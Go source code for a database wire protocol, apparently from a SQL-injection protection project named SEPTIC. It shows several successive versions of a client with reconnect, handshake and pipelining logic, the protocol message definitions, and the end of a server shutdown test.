		t.Errorf("engine executed %d < client successes %d", got, successes.Load())
	}
	// The server refuses new connections after shutdown.
	if c, err := Dial(addr); err == nil {
		if _, err := c.Exec("SELECT 1"); err == nil {
			t.Error("server still serving after Shutdown")
		}
		c.Close()
	}
}

func TestShutdownForceClosesAfterDrainDeadline(t *testing.T) {
	snapshotGoroutines(t)
	addr, srv, db := startServerOpts(t, core.Config{Mode: core.ModeTraining})
	if _, err := db.Exec("CREATE TABLE t (id INT)"); err != nil {
		t.Fatal(err)
	}
	c := dial(t, addr)
	if _, err := c.Exec("SELECT id FROM t"); err != nil {
		t.Fatal(err)
	}
	// Wedge one query in the execute stage far past the drain deadline.
	release := make(chan struct{})
	faultinject.Arm(func(site string) {
		if site == faultinject.SiteEngineExecute {
			<-release
		}
	})
	defer faultinject.Disarm()
	go func() { _, _ = c.Exec("SELECT id FROM t") }()
	time.Sleep(50 * time.Millisecond) // let the query reach the stall

	ctx, cancel := context.WithTimeout(context.Background(), 200*time.Millisecond)
	defer cancel()
	start := time.Now()
	err := srv.Shutdown(ctx)
	close(release) // un-wedge so the leak check can pass
	if !errors.Is(err, context.DeadlineExceeded) {
		t.Fatalf("Shutdown err = %v, want DeadlineExceeded (forced)", err)
	}
	if elapsed := time.Since(start); elapsed > 2*time.Second {
		t.Fatalf("forced shutdown took %v", elapsed)
	}
}
