package wire

import (
	"errors"
	"fmt"
	"math/rand"
	"net"
	"sync"
	"time"

	"github.com/septic-db/septic/internal/engine"
)

// ErrServerBlocked is returned by the client when the server reports
// that SEPTIC dropped the query. It wraps engine.ErrQueryBlocked so
// errors.Is works across the wire boundary.
var ErrServerBlocked = fmt.Errorf("%w (reported by server)", engine.ErrQueryBlocked)

// ErrOverloaded is the sentinel under every typed shed: errors.Is(err,
// ErrOverloaded) detects an overload rejection regardless of which
// control (admission or quota) produced it.
var ErrOverloaded = errors.New("wire: server overloaded, request shed")

// OverloadError is returned when the server shed one request under
// overload control. Unlike a transport failure it is a clean,
// pre-execution rejection: the connection stays healthy, the request
// definitely did not run, and the caller may retry it — ideally after
// RetryAfter (with jitter), which is the server's own drain estimate.
// It unwraps to ErrOverloaded.
type OverloadError struct {
	// RetryAfter is the server's backoff hint (zero when it sent none).
	RetryAfter time.Duration
	msg        string
}

func (e *OverloadError) Error() string { return e.msg }

func (e *OverloadError) Unwrap() error { return ErrOverloaded }

// ErrClientClosed is returned by every call on a client whose
// connection is gone — closed by the caller, or poisoned by an earlier
// transport/protocol error. Poisoning is deliberate: after a failed
// frame write or read the stream position is undefined, so continuing
// to use the connection would desynchronize framing (a response for
// request N read as the answer to N+1) or deadlock. Failing fast with a
// clear error is the only safe continuation.
var ErrClientClosed = errors.New("wire: client closed")

// clientOptions collects Dial-time configuration.
type clientOptions struct {
	dial        func(addr string) (net.Conn, error)
	reconnect   bool
	maxAttempts int
	baseDelay   time.Duration
	maxDelay    time.Duration
	hello       *Hello
	pipeline    bool
	window      int
	shedRetries int
}

// ClientOption configures a Client at Dial time.
type ClientOption func(*clientOptions)

// WithDialFunc replaces the TCP dialer — chaos tests inject
// fault-wrapped connections through it.
func WithDialFunc(dial func(addr string) (net.Conn, error)) ClientOption {
	return func(o *clientOptions) { o.dial = dial }
}

// WithAutoReconnect opts the client into automatic redialing: the
// initial Dial and — after a poisoned connection — the next Exec retry
// the dial up to maxAttempts times with exponential backoff plus
// jitter (base 10ms, doubling, capped at 1s). The failed request
// itself is never replayed: it may have executed server-side, and a
// protection layer must not turn a transport hiccup into a duplicated
// write. maxAttempts < 1 means the default (5).
func WithAutoReconnect(maxAttempts int) ClientOption {
	return func(o *clientOptions) {
		o.reconnect = true
		if maxAttempts >= 1 {
			o.maxAttempts = maxAttempts
		}
	}
}

// WithHello makes the client perform the versioned HELLO handshake on
// every (re)dial, declaring the application it acts for: the server
// binds the session to the application's protection domain, and the
// negotiated domain is readable with Client.Domain. A handshake the
// server refuses (version skew, transport fault) fails the dial.
// Clients without WithHello never send a handshake — the legacy
// sessions that land in the default domain. The declared version is the
// legacy synchronous protocol; combine with WithPipeline to request the
// pipelined binary transport.
func WithHello(app string) ClientOption {
	return func(o *clientOptions) {
		o.hello = &Hello{Version: helloVersionLegacy, App: app}
	}
}

// WithPipeline requests the version-2 pipelined binary transport with
// the given in-flight window (≤ 0 means DefaultPipelineWindow). The
// handshake is negotiated on every (re)dial: a server that refuses
// version 2 and advertises an older one gets a downgraded handshake,
// and the session proceeds on the synchronous JSON protocol — a v2
// client against a v1 server keeps working, just without pipelining.
// ProtocolVersion reports what a session actually negotiated.
func WithPipeline(window int) ClientOption {
	return func(o *clientOptions) {
		o.pipeline = true
		o.window = window
	}
}

// WithShedRetry makes Exec and ExecArgs transparently retry a request
// the server shed under overload control, up to max extra attempts,
// sleeping the server's jittered retry-after hint between tries. This
// is safe where replaying transport failures is not: a shed response
// guarantees the request never executed. Submit futures are not
// retried — pipelined callers see the typed OverloadError and choose.
func WithShedRetry(max int) ClientOption {
	return func(o *clientOptions) {
		if max > 0 {
			o.shedRetries = max
		}
	}
}

// WithReconnectBackoff tunes the auto-reconnect delays (implies
// WithAutoReconnect with the current attempt budget).
func WithReconnectBackoff(base, max time.Duration) ClientOption {
	return func(o *clientOptions) {
		o.reconnect = true
		if base > 0 {
			o.baseDelay = base
		}
		if max > 0 {
			o.maxDelay = max
		}
	}
}

// Client is a connector to a wire server. It is safe for concurrent
// use. On a synchronous (v1) session requests are serialized, as in the
// MySQL protocol; on a pipelined (v2) session concurrent callers share
// the connection's in-flight window and complete out of order.
type Client struct {
	addr string
	opts clientOptions

	mu      sync.Mutex
	conn    net.Conn
	pipe    *pipe  // non-nil iff the session negotiated the v2 transport
	proto   int    // protocol version this session negotiated
	closed  bool   // Close was called; terminal
	lastErr error  // why the connection was poisoned (nil if healthy)
	domain  string // domain the HELLO handshake bound us to ("" = none)
	// retryHint is the server's retry-after from the last busy refusal;
	// the next redial honors it (jittered) before its first attempt.
	retryHint time.Duration
}

// Dial connects to a server address.
func Dial(addr string, opts ...ClientOption) (*Client, error) {
	o := clientOptions{
		dial:        func(a string) (net.Conn, error) { return net.Dial("tcp", a) },
		maxAttempts: 5,
		baseDelay:   10 * time.Millisecond,
		maxDelay:    time.Second,
	}
	for _, opt := range opts {
		opt(&o)
	}
	c := &Client{addr: addr, opts: o}
	c.mu.Lock()
	defer c.mu.Unlock()
	if err := c.redialLocked(); err != nil {
		return nil, err
	}
	return c, nil
}

// redialLocked (re)establishes the connection, with backoff+jitter when
// auto-reconnect is on. Callers hold c.mu.
func (c *Client) redialLocked() error {
	attempts := 1
	if c.opts.reconnect {
		attempts = c.opts.maxAttempts
	}
	if hint := c.retryHint; hint > 0 {
		// The previous session ended with a busy refusal carrying a
		// retry-after hint: honor it (jittered) before the first dial so
		// refused clients spread out instead of stampeding the admission
		// gate that just turned them away.
		c.retryHint = 0
		sleepRetryAfter(hint)
	}
	delay := c.opts.baseDelay
	var lastErr error
	for i := 0; i < attempts; i++ {
		if i > 0 {
			// Full jitter on the exponential step: sleep a uniform random
			// fraction of the window so reconnect storms decorrelate.
			time.Sleep(time.Duration(rand.Int63n(int64(delay) + 1)))
			if delay *= 2; delay > c.opts.maxDelay {
				delay = c.opts.maxDelay
			}
		}
		conn, err := c.opts.dial(c.addr)
		if err == nil {
			c.conn = conn
			c.lastErr = nil
			c.proto = helloVersionLegacy
			// Negotiate on the fresh connection — protocol version AND
			// domain binding, on the initial dial and every reconnect. A
			// failure poisons this conn and counts as one dial attempt: a
			// session that asked for a domain binding must never silently
			// run unbound, and a pipelining session must re-negotiate its
			// transport (the replacement server may speak a different
			// version than the one that died).
			if err = c.negotiateLocked(); err == nil {
				return nil
			}
			_ = c.poisonLocked(err)
		}
		lastErr = err
	}
	return fmt.Errorf("dial %s: %w", c.addr, lastErr)
}

// negotiateLocked performs the HELLO handshake on the current
// connection, negotiating the protocol version and the domain binding.
// Callers hold c.mu. Clients with neither WithHello nor WithPipeline
// send no handshake at all — the legacy default-domain session.
func (c *Client) negotiateLocked() error {
	if c.opts.hello == nil && !c.opts.pipeline {
		return nil
	}
	h := Hello{}
	if c.opts.hello != nil {
		h = *c.opts.hello
	}
	if c.opts.pipeline {
		h.Version = HelloVersion
	}
	ack, err := c.helloRoundTripLocked(&h)
	if err != nil {
		var refusal *helloRefusedError
		// Auto-downgrade is only for pipelining clients probing for v2: a
		// caller that explicitly pinned a version (o.hello) must see the
		// refusal, not a silent downgrade.
		if !errors.As(err, &refusal) || !c.opts.pipeline ||
			refusal.ack == nil || refusal.ack.Version < helloVersionLegacy ||
			refusal.ack.Version >= h.Version {
			return err
		}
		h.Version = refusal.ack.Version
		if ack, err = c.helloRoundTripLocked(&h); err != nil {
			return err
		}
	}
	c.domain = ack.Domain
	c.proto = h.Version
	if h.Version >= HelloVersion {
		// The acknowledgement was the last JSON frame on this session;
		// everything after it is binary. Hand the conn to the pipe.
		c.pipe = newPipe(c, c.conn, c.opts.window)
	}
	return nil
}

// helloRefusedError carries the server's refusal acknowledgement so the
// client can read the advertised version and downgrade.
type helloRefusedError struct {
	msg string
	ack *HelloAck
}

func (e *helloRefusedError) Error() string { return "hello refused: " + e.msg }

// helloRoundTripLocked sends one handshake frame and reads the reply.
// Callers hold c.mu.
func (c *Client) helloRoundTripLocked(h *Hello) (*HelloAck, error) {
	if err := writeFrame(c.conn, &Request{Hello: h}); err != nil {
		return nil, fmt.Errorf("hello: %w", err)
	}
	var resp Response
	if err := readFrame(c.conn, &resp); err != nil {
		return nil, fmt.Errorf("hello: %w", err)
	}
	if resp.Error != "" {
		return nil, &helloRefusedError{msg: resp.Error, ack: resp.Hello}
	}
	if resp.Hello == nil {
		return nil, errors.New("hello: server sent no acknowledgement")
	}
	return resp.Hello, nil
}

// poisonLocked marks the connection dead after a transport/protocol
// failure: the conn is closed, the cause recorded, and every later call
// fails fast (or redials, if auto-reconnect is on) instead of reading
// misaligned frames. Returns err for convenient tail calls.
func (c *Client) poisonLocked(err error) error {
	if c.conn != nil {
		_ = c.conn.Close()
		c.conn = nil
	}
	c.pipe = nil
	c.lastErr = err
	return err
}

// pipeBroken is the pipe's poison callback: detach it so the next call
// redials (auto-reconnect) or fails fast with the recorded cause.
func (c *Client) pipeBroken(p *pipe, err error) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.pipe != p {
		return // already detached (replaced or client-closed)
	}
	c.pipe = nil
	c.conn = nil // the pipe closed it
	c.lastErr = err
}

// Domain returns the protection domain the HELLO handshake bound this
// session to — empty for clients dialed without WithHello.
func (c *Client) Domain() string {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.domain
}

// ProtocolVersion returns the protocol version the current session
// negotiated: 2 when the pipelined binary transport is active, 1 for a
// synchronous JSON session (including a v2 client downgraded by a v1
// server), 0 when the connection is down.
func (c *Client) ProtocolVersion() int {
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.conn == nil {
		return 0
	}
	return c.proto
}

// Exec runs one SQL statement on the server.
func (c *Client) Exec(query string) (*engine.Result, error) {
	req := getRequest()
	req.Query = query
	res, err := c.execShedRetry(req)
	putRequest(req)
	return res, err
}

// ExecArgs runs a parameterized statement, binding args server-side.
func (c *Client) ExecArgs(query string, args ...engine.Value) (*engine.Result, error) {
	req := getRequest()
	req.Query = query
	for _, a := range args {
		req.Args = append(req.Args, ToWire(a))
	}
	res, err := c.execShedRetry(req)
	putRequest(req)
	return res, err
}

// execShedRetry runs exec with the WithShedRetry budget: only typed
// shed rejections — guaranteed never executed server-side — are
// retried, after the server's jittered retry-after hint.
func (c *Client) execShedRetry(req *Request) (*engine.Result, error) {
	res, err := c.exec(req)
	for retries := c.opts.shedRetries; retries > 0; retries-- {
		var oe *OverloadError
		if !errors.As(err, &oe) {
			break
		}
		sleepRetryAfter(oe.RetryAfter)
		res, err = c.exec(req)
	}
	return res, err
}

// sleepRetryAfter honors a server retry-after hint with jitter: the
// wait is uniform in [hint/2, 1.5*hint], averaging the server's ask
// while decorrelating a herd of rejected clients.
func sleepRetryAfter(hint time.Duration) {
	if hint <= 0 {
		return
	}
	time.Sleep(hint/2 + time.Duration(rand.Int63n(int64(hint)+1)))
}

// Submit enqueues one statement and returns a Future that completes
// when the server answers. On a pipelined session up to the negotiated
// window of submits proceed concurrently without waiting for each
// other; on a synchronous session Submit degrades to Exec and returns
// an already-completed Future, so callers can be written against Submit
// regardless of what the server negotiated.
func (c *Client) Submit(query string, args ...engine.Value) *Future {
	req := getRequest()
	req.Query = query
	for _, a := range args {
		req.Args = append(req.Args, ToWire(a))
	}
	defer putRequest(req) // submit/exec are done with req when they return
	c.mu.Lock()
	p, err := c.sessionLocked()
	c.mu.Unlock()
	if err != nil {
		return completedFuture(nil, err)
	}
	if p != nil {
		return p.submit(req)
	}
	return completedFuture(c.exec(req))
}

// sessionLocked ensures a live connection (redialing when allowed) and
// returns the active pipe, nil when the session is synchronous.
// Callers hold c.mu.
func (c *Client) sessionLocked() (*pipe, error) {
	if c.closed {
		return nil, ErrClientClosed
	}
	if c.conn == nil {
		if !c.opts.reconnect {
			return nil, fmt.Errorf("%w (connection poisoned: %v)", ErrClientClosed, c.lastErr)
		}
		if err := c.redialLocked(); err != nil {
			return nil, err
		}
	}
	return c.pipe, nil
}

func (c *Client) exec(req *Request) (*engine.Result, error) {
	c.mu.Lock()
	p, err := c.sessionLocked()
	if err != nil {
		c.mu.Unlock()
		return nil, err
	}
	if p != nil {
		// Pipelined session: submit without holding the client lock —
		// the pipe serializes internally and other callers may overlap.
		c.mu.Unlock()
		return p.submit(req).Wait()
	}
	defer c.mu.Unlock()
	if err := writeFrame(c.conn, req); err != nil {
		return nil, c.poisonLocked(fmt.Errorf("write request: %w", err))
	}
	resp := getResponse()
	if err := readFrame(c.conn, resp); err != nil {
		putResponse(resp)
		return nil, c.poisonLocked(fmt.Errorf("read response: %w", err))
	}
	if resp.Busy {
		// The server refused this connection at admission and is hanging
		// up; poison so the next call redials (or fails fast), honoring
		// the server's retry-after hint before that redial.
		c.retryHint = time.Duration(resp.RetryAfterMS) * time.Millisecond
		putResponse(resp)
		return nil, c.poisonLocked(ErrServerBusy)
	}
	res, err := responseToResult(resp) // copies — the response is pooled
	putResponse(resp)
	return res, err
}

// Close tears down the connection. A closed client never reconnects.
func (c *Client) Close() error {
	c.mu.Lock()
	if c.closed {
		c.mu.Unlock()
		return nil
	}
	c.closed = true
	p := c.pipe
	conn := c.conn
	c.pipe = nil
	c.conn = nil
	c.mu.Unlock()
	if p != nil {
		// The pipe owns the conn: poison it (failing anything in flight)
		// and wait for its goroutines to drain.
		p.close()
		return nil
	}
	if conn != nil {
		return conn.Close()
	}
	return nil
}
