package wire

import (
	"errors"
	"fmt"
	"math/rand"
	"net"
	"sync"
	"time"

	"github.com/septic-db/septic/internal/engine"
)

// ErrServerBlocked is returned by the client when the server reports
// that SEPTIC dropped the query. It wraps engine.ErrQueryBlocked so
// errors.Is works across the wire boundary.
var ErrServerBlocked = fmt.Errorf("%w (reported by server)", engine.ErrQueryBlocked)

// ErrClientClosed is returned by every call on a client whose
// connection is gone — closed by the caller, or poisoned by an earlier
// transport/protocol error. Poisoning is deliberate: after a failed
// frame write or read the stream position is undefined, so continuing
// to use the connection would desynchronize framing (a response for
// request N read as the answer to N+1) or deadlock. Failing fast with a
// clear error is the only safe continuation.
var ErrClientClosed = errors.New("wire: client closed")

// clientOptions collects Dial-time configuration.
type clientOptions struct {
	dial        func(addr string) (net.Conn, error)
	reconnect   bool
	maxAttempts int
	baseDelay   time.Duration
	maxDelay    time.Duration
	hello       *Hello
}

// ClientOption configures a Client at Dial time.
type ClientOption func(*clientOptions)

// WithDialFunc replaces the TCP dialer — chaos tests inject
// fault-wrapped connections through it.
func WithDialFunc(dial func(addr string) (net.Conn, error)) ClientOption {
	return func(o *clientOptions) { o.dial = dial }
}

// WithAutoReconnect opts the client into automatic redialing: the
// initial Dial and — after a poisoned connection — the next Exec retry
// the dial up to maxAttempts times with exponential backoff plus
// jitter (base 10ms, doubling, capped at 1s). The failed request
// itself is never replayed: it may have executed server-side, and a
// protection layer must not turn a transport hiccup into a duplicated
// write. maxAttempts < 1 means the default (5).
func WithAutoReconnect(maxAttempts int) ClientOption {
	return func(o *clientOptions) {
		o.reconnect = true
		if maxAttempts >= 1 {
			o.maxAttempts = maxAttempts
		}
	}
}

// WithHello makes the client perform the versioned HELLO handshake on
// every (re)dial, declaring the application it acts for: the server
// binds the session to the application's protection domain, and the
// negotiated domain is readable with Client.Domain. A handshake the
// server refuses (version skew, transport fault) fails the dial.
// Clients without WithHello never send a handshake — the legacy
// sessions that land in the default domain.
func WithHello(app string) ClientOption {
	return func(o *clientOptions) {
		o.hello = &Hello{Version: HelloVersion, App: app}
	}
}

// WithReconnectBackoff tunes the auto-reconnect delays (implies
// WithAutoReconnect with the current attempt budget).
func WithReconnectBackoff(base, max time.Duration) ClientOption {
	return func(o *clientOptions) {
		o.reconnect = true
		if base > 0 {
			o.baseDelay = base
		}
		if max > 0 {
			o.maxDelay = max
		}
	}
}

// Client is a connector to a wire server. It is safe for concurrent use;
// requests on one connection are serialized, as in the MySQL protocol.
type Client struct {
	addr string
	opts clientOptions

	mu      sync.Mutex
	conn    net.Conn
	closed  bool   // Close was called; terminal
	lastErr error  // why the connection was poisoned (nil if healthy)
	domain  string // domain the HELLO handshake bound us to ("" = none)
}

// Dial connects to a server address.
func Dial(addr string, opts ...ClientOption) (*Client, error) {
	o := clientOptions{
		dial:        func(a string) (net.Conn, error) { return net.Dial("tcp", a) },
		maxAttempts: 5,
		baseDelay:   10 * time.Millisecond,
		maxDelay:    time.Second,
	}
	for _, opt := range opts {
		opt(&o)
	}
	c := &Client{addr: addr, opts: o}
	c.mu.Lock()
	defer c.mu.Unlock()
	if err := c.redialLocked(); err != nil {
		return nil, err
	}
	return c, nil
}

// redialLocked (re)establishes the connection, with backoff+jitter when
// auto-reconnect is on. Callers hold c.mu.
func (c *Client) redialLocked() error {
	attempts := 1
	if c.opts.reconnect {
		attempts = c.opts.maxAttempts
	}
	delay := c.opts.baseDelay
	var lastErr error
	for i := 0; i < attempts; i++ {
		if i > 0 {
			// Full jitter on the exponential step: sleep a uniform random
			// fraction of the window so reconnect storms decorrelate.
			time.Sleep(time.Duration(rand.Int63n(int64(delay) + 1)))
			if delay *= 2; delay > c.opts.maxDelay {
				delay = c.opts.maxDelay
			}
		}
		conn, err := c.opts.dial(c.addr)
		if err == nil {
			c.conn = conn
			c.lastErr = nil
			if c.opts.hello == nil {
				return nil
			}
			// Handshake on the fresh connection. A failure poisons this
			// conn and counts as one dial attempt: a session that asked
			// for a domain binding must never silently run unbound.
			if err = c.helloLocked(); err == nil {
				return nil
			}
			_ = c.poisonLocked(err)
		}
		lastErr = err
	}
	return fmt.Errorf("dial %s: %w", c.addr, lastErr)
}

// helloLocked performs the HELLO handshake on the current connection.
// Callers hold c.mu.
func (c *Client) helloLocked() error {
	if err := writeFrame(c.conn, &Request{Hello: c.opts.hello}); err != nil {
		return fmt.Errorf("hello: %w", err)
	}
	var resp Response
	if err := readFrame(c.conn, &resp); err != nil {
		return fmt.Errorf("hello: %w", err)
	}
	if resp.Error != "" {
		return fmt.Errorf("hello refused: %s", resp.Error)
	}
	if resp.Hello == nil {
		return errors.New("hello: server sent no acknowledgement")
	}
	c.domain = resp.Hello.Domain
	return nil
}

// poisonLocked marks the connection dead after a transport/protocol
// failure: the conn is closed, the cause recorded, and every later call
// fails fast (or redials, if auto-reconnect is on) instead of reading
// misaligned frames. Returns err for convenient tail calls.
func (c *Client) poisonLocked(err error) error {
	if c.conn != nil {
		_ = c.conn.Close()
		c.conn = nil
	}
	c.lastErr = err
	return err
}

// Domain returns the protection domain the HELLO handshake bound this
// session to — empty for clients dialed without WithHello.
func (c *Client) Domain() string {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.domain
}

// Exec runs one SQL statement on the server.
func (c *Client) Exec(query string) (*engine.Result, error) {
	return c.exec(&Request{Query: query})
}

// ExecArgs runs a parameterized statement, binding args server-side.
func (c *Client) ExecArgs(query string, args ...engine.Value) (*engine.Result, error) {
	wargs := make([]WireValue, len(args))
	for i, a := range args {
		wargs[i] = ToWire(a)
	}
	return c.exec(&Request{Query: query, Args: wargs})
}

func (c *Client) exec(req *Request) (*engine.Result, error) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.closed {
		return nil, ErrClientClosed
	}
	if c.conn == nil {
		if !c.opts.reconnect {
			return nil, fmt.Errorf("%w (connection poisoned: %v)", ErrClientClosed, c.lastErr)
		}
		if err := c.redialLocked(); err != nil {
			return nil, err
		}
	}
	if err := writeFrame(c.conn, req); err != nil {
		return nil, c.poisonLocked(fmt.Errorf("write request: %w", err))
	}
	var resp Response
	if err := readFrame(c.conn, &resp); err != nil {
		return nil, c.poisonLocked(fmt.Errorf("read response: %w", err))
	}
	if resp.Busy {
		// The server refused this connection at admission and is hanging
		// up; poison so the next call redials (or fails fast).
		return nil, c.poisonLocked(ErrServerBusy)
	}
	if resp.Error != "" {
		if resp.Blocked {
			return nil, fmt.Errorf("%w: %s", ErrServerBlocked, resp.Error)
		}
		return nil, errors.New(resp.Error)
	}
	res := &engine.Result{
		Columns:      resp.Columns,
		Affected:     resp.Affected,
		LastInsertID: resp.LastInsertID,
	}
	res.Rows = make([][]engine.Value, len(resp.Rows))
	for i, row := range resp.Rows {
		vals := make([]engine.Value, len(row))
		for j, w := range row {
			vals[j] = FromWire(w)
		}
		res.Rows[i] = vals
	}
	return res, nil
}

// Close tears down the connection. A closed client never reconnects.
func (c *Client) Close() error {
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.closed {
		return nil
	}
	c.closed = true
	if c.conn == nil {
		return nil
	}
	err := c.conn.Close()
	c.conn = nil
	return err
}
