package wire

import (
	"errors"
	"fmt"
	"net"
	"sync"

	"github.com/septic-db/septic/internal/engine"
)

// ErrServerBlocked is returned by the client when the server reports
// that SEPTIC dropped the query. It wraps engine.ErrQueryBlocked so
// errors.Is works across the wire boundary.
var ErrServerBlocked = fmt.Errorf("%w (reported by server)", engine.ErrQueryBlocked)

// Client is a connector to a wire server. It is safe for concurrent use;
// requests on one connection are serialized, as in the MySQL protocol.
type Client struct {
	mu   sync.Mutex
	conn net.Conn
}

// Dial connects to a server address.
func Dial(addr string) (*Client, error) {
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		return nil, fmt.Errorf("dial %s: %w", addr, err)
	}
	return &Client{conn: conn}, nil
}

// Exec runs one SQL statement on the server.
func (c *Client) Exec(query string) (*engine.Result, error) {
	return c.exec(&Request{Query: query})
}

// ExecArgs runs a parameterized statement, binding args server-side.
func (c *Client) ExecArgs(query string, args ...engine.Value) (*engine.Result, error) {
	wargs := make([]WireValue, len(args))
	for i, a := range args {
		wargs[i] = ToWire(a)
	}
	return c.exec(&Request{Query: query, Args: wargs})
}

func (c *Client) exec(req *Request) (*engine.Result, error) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.conn == nil {
		return nil, errors.New("client closed")
	}
	if err := writeFrame(c.conn, req); err != nil {
		return nil, err
	}
	var resp Response
	if err := readFrame(c.conn, &resp); err != nil {
		return nil, fmt.Errorf("read response: %w", err)
	}
	if resp.Error != "" {
		if resp.Blocked {
			return nil, fmt.Errorf("%w: %s", ErrServerBlocked, resp.Error)
		}
		return nil, errors.New(resp.Error)
	}
	res := &engine.Result{
		Columns:      resp.Columns,
		Affected:     resp.Affected,
		LastInsertID: resp.LastInsertID,
	}
	res.Rows = make([][]engine.Value, len(resp.Rows))
	for i, row := range resp.Rows {
		vals := make([]engine.Value, len(row))
		for j, w := range row {
			vals[j] = FromWire(w)
		}
		res.Rows[i] = vals
	}
	return res, nil
}

// Close tears down the connection.
func (c *Client) Close() error {
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.conn == nil {
		return nil
	}
	err := c.conn.Close()
	c.conn = nil
	return err
}
