// Package wire implements the client/server protocol of the DBMS,
// standing in for the MySQL wire protocol. Two transports share one
// port:
//
//   - Version 1 — the legacy protocol: synchronous, length-prefixed
//     JSON frames, one request in flight per connection. Every client
//     speaks it by default, preserving the paper's "no client
//     configuration" property (§II-B): clients connect exactly as they
//     would to an unprotected server.
//   - Version 2 — the pipelined binary protocol: sequence-numbered,
//     length-prefixed binary frames (codec.go), many requests in
//     flight per connection, responses completed out of order and
//     matched by sequence number. A session enters v2 only through the
//     HELLO handshake, so v1 clients and v1 servers interoperate with
//     v2 peers unchanged.
//
// The protocol also demonstrates "client diversity" (§II-B): several
// clients of different kinds — and now of different protocol versions —
// may be connected to a single protected server.
package wire

import (
	"bytes"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"io"
	"sync"

	"github.com/septic-db/septic/internal/engine"
)

// maxFrame bounds a single protocol frame (16 MiB, like MySQL's default
// max_allowed_packet).
const maxFrame = 16 << 20

// Protocol versions carried in the HELLO handshake.
const (
	// HelloVersion is the newest protocol version this build speaks.
	// Version 1 added the application declaration that binds a
	// connection to a protection domain; version 2 adds the pipelined
	// binary transport.
	HelloVersion = 2
	// helloVersionLegacy is the synchronous JSON protocol. WithHello
	// clients declare it; a v2 client falls back to it when the server
	// refuses version 2.
	helloVersionLegacy = 1
)

// Hello is the optional session handshake: the first frame a
// domain-aware or pipelining client sends. It declares the client's
// protocol version and the application it acts for; the server binds
// the connection to the application's protection domain and every later
// query on the connection is routed there. A version-2 hello
// additionally switches the session to the pipelined binary transport:
// the acknowledgement is the last JSON frame exchanged, and every frame
// after it is binary (codec.go). Clients predating the handshake simply
// never send one — their queries carry no app binding, land in the
// default domain, and stay on the synchronous JSON protocol, so old
// clients keep working against new servers without any configuration.
type Hello struct {
	// Version is the protocol version the client wants to speak. A
	// server refuses versions newer than it accepts (the client must
	// downgrade — pipelining clients do so automatically), and accepts
	// older ones.
	Version int `json:"v"`
	// App is the application name to bind the session to; empty binds to
	// the default domain.
	App string `json:"app,omitempty"`
	// Repl, when true, asks for a replication session instead of a query
	// session: after the acknowledgement the connection switches to the
	// replication frame protocol (internal/repl) and never carries
	// queries. Requires Version >= 2 and a server with replication
	// enabled; anything else is refused in the ack — the same clean
	// degradation path as a version refusal, so a replica pointed at a
	// v1-only or non-primary server gets a typed error, never a hang.
	Repl bool `json:"repl,omitempty"`
}

// HelloAck is the server's handshake reply.
type HelloAck struct {
	// Version is the newest protocol version the server accepts. On a
	// refusal it tells the client what to downgrade to.
	Version int `json:"v"`
	// Domain is the protection domain the session was bound to —
	// "default" when the declared app is unknown or empty.
	Domain string `json:"domain,omitempty"`
	// Repl confirms a replication handshake: the server accepted and the
	// connection is now a replication stream.
	Repl bool `json:"repl,omitempty"`
}

// Request is one client->server message. A frame with Hello set is a
// handshake, not a query: Query and Args are ignored and the response
// carries the HelloAck.
type Request struct {
	// Query is the SQL text.
	Query string `json:"query"`
	// Args, when non-empty, bind '?' placeholders server-side
	// (prepared-statement style execution).
	Args []WireValue `json:"args,omitempty"`
	// Hello, when set, makes this frame a session handshake.
	Hello *Hello `json:"hello,omitempty"`
}

// reset clears a Request for reuse, keeping the Args capacity. Required
// before decoding into a pooled struct: both json.Unmarshal and the
// binary decoder leave absent fields untouched.
func (r *Request) reset() {
	r.Query = ""
	r.Args = r.Args[:0]
	r.Hello = nil
}

// Response is one server->client message.
type Response struct {
	Columns      []string      `json:"columns,omitempty"`
	Rows         [][]WireValue `json:"rows,omitempty"`
	Affected     int64         `json:"affected,omitempty"`
	LastInsertID int64         `json:"last_insert_id,omitempty"`
	// Error is the failure message, empty on success.
	Error string `json:"error,omitempty"`
	// Blocked reports that SEPTIC dropped the query.
	Blocked bool `json:"blocked,omitempty"`
	// Busy reports that the server refused the connection at admission
	// (max-conns reached and the accept backlog full or timed out).
	Busy bool `json:"busy,omitempty"`
	// Shed reports that overload control rejected THIS request — the
	// admission controller's queue-delay bound or the session domain's
	// quota. Unlike Busy it is not terminal: the request never executed,
	// the session stays usable, and the client may retry after
	// RetryAfterMS. Old clients that predate the field see only the
	// Error text and treat it as an ordinary query failure.
	Shed bool `json:"shed,omitempty"`
	// RetryAfterMS is the backoff hint accompanying Busy or Shed: how
	// long the client should wait (with jitter) before retrying or
	// redialing. Zero means no hint.
	RetryAfterMS int64 `json:"retry_after_ms,omitempty"`
	// Hello is the handshake acknowledgement, set only when the request
	// was a Hello frame.
	Hello *HelloAck `json:"hello,omitempty"`
}

// reset clears a Response for reuse. Outer slice capacities are kept
// (the per-connection serving loop reuses them frame after frame); the
// inner row slices are released for the collector.
func (r *Response) reset() {
	r.Columns = r.Columns[:0]
	for i := range r.Rows {
		r.Rows[i] = nil
	}
	r.Rows = r.Rows[:0]
	r.Affected = 0
	r.LastInsertID = 0
	r.Error = ""
	r.Blocked = false
	r.Busy = false
	r.Shed = false
	r.RetryAfterMS = 0
	r.Hello = nil
}

// Struct pools for the serving and client hot paths: one Request and
// one Response per frame otherwise, on both the JSON and binary paths.
var (
	requestPool  = sync.Pool{New: func() any { return new(Request) }}
	responsePool = sync.Pool{New: func() any { return new(Response) }}
)

func getRequest() *Request {
	return requestPool.Get().(*Request)
}

func putRequest(r *Request) {
	r.reset()
	requestPool.Put(r)
}

func getResponse() *Response {
	return responsePool.Get().(*Response)
}

func putResponse(r *Response) {
	r.reset()
	responsePool.Put(r)
}

// WireValue is the serialized form of engine.Value.
type WireValue struct {
	Kind int     `json:"k"`
	I    int64   `json:"i,omitempty"`
	F    float64 `json:"f,omitempty"`
	S    string  `json:"s,omitempty"`
	B    bool    `json:"b,omitempty"`
}

// ToWire converts an engine value.
func ToWire(v engine.Value) WireValue {
	return WireValue{Kind: int(v.Kind), I: v.I, F: v.F, S: v.S, B: v.B}
}

